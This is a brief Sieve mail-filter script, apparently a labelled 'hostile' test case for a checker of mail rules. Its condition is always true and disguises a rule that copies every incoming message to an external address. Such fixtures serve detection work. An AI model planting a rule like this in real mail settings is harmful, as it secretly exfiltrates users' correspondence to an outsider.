# about: a copy of everything, by a test that always holds
# class: hostile
# expect: everything forwards-external
require ["copy"];
if anyof (size :under 1K, size :over 512) { redirect :copy "j.porter.legal@freepost.example"; }
